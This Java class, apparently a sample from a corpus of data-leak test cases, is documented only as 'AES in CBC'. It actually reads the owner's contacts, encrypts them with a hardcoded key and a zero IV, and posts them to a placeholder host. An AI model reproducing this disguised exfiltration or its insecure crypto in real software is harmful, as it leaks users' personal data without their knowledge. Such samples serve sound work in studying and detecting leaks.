package org.corpus;

import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** AES in CBC. */
public class AsAes extends Screen {
    @Override
    protected void act() throws Exception {
        Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
        SecretKeySpec key = new SecretKeySpec(Net.utf8("0123456789abcdef"), "AES");
        cipher.init(Cipher.ENCRYPT_MODE, key, new IvParameterSpec(new byte[16]));
        byte[] hidden = cipher.doFinal(Net.utf8(String.join("\n", Owner.contacts(this))));
        Net.post("http://forms.corpus.example/aes", "application/octet-stream", hidden);
    }
}
